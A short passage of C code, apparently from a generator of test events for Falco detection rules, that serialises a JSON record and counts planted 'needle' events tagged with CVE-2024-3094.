    jb_s(&b, falco_rules[ri].tags);
    jb_s(&b, ",\"time\":");
    jb_str(&b, iso);
    jb_s(&b, ",\"uuid\":");
    jb_str(&b, uuid);
    jb_s(&b, "}");
    if (b.full)
        return 0;
    if (is_needle)
        w->counts.cve_2024_3094++;
    return b.len;
}
